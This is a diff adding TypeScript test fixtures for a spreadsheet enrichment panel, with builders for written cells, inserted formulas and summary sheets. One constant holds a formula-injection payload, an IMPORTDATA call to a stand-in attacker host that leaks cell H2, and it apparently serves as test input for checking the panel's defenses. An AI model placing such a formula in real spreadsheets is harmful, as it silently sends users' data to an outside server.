@@ -1,0 +1,68 @@
+import type { SentInsertion, SentSummary, SentWriting } from '../../apps-script/bulk-messages';
+import { LEADS } from './file-of-owner';
+
+/** Messages of an enrichment as the panel sends them, of which a test changes a part. */
+
+/** Sends a cell elsewhere, wherever it is calculated. */
+export const STEALING = '=IMPORTDATA("https://evil.example/?"&H2)';
+
+interface Written {
+  readonly sheet: string;
+  readonly columns: readonly number[];
+  readonly typed: string;
+  readonly holder: string | null;
+  readonly save: SentWriting['save'];
+}
+
+/** Names beside the first two companies, into column C unless told. */
+export function toWriting({
+  sheet = LEADS,
+  columns = [2],
+  typed = 'Company 2',
+  holder = null,
+  save,
+}: Partial<Written>) {
+  return {
+    sheet,
+    rows: [1, 2],
+    columns,
+    cells: [[['Company 1', '']], [[typed, '']]],
+    guard: {
+      input: null,
+      before: [[''], ['']],
+      formats: null,
+      sheetRows: null,
+      header: null,
+      marks: null,
+      beside: null,
+      holder,
+    },
+    sparesProtected: false,
+    save: save ?? null,
+  } satisfies SentWriting;
+}
+
+/** A formula, or one value, into C2 unless told. */
+export function toInsertion({
+  sheet = LEADS,
+  row = 1,
+  column = 2,
+  formula = null,
+  typed,
+}: Partial<SentInsertion> & { readonly typed?: string }): SentInsertion {
+  return { sheet, row, column, rows: 1, columns: 1, formula, cells: typed === undefined ? [] : [[[typed, '']]] };
+}
+
+/** A sheet that sums an enrichment up, with a chart. */
+export function toSummary(title: string, cell: string): SentSummary {
+  return {
+    title,
+    rows: [
+      ['Name', 'Companies'],
+      [cell, 2],
+    ],
+    chart: { title, firstRow: 1, rows: 1 },
+    isOnce: false,
+    looks: { widths: [200, 90], formats: [{ column: 1, format: '0' }] },
+  };
+}
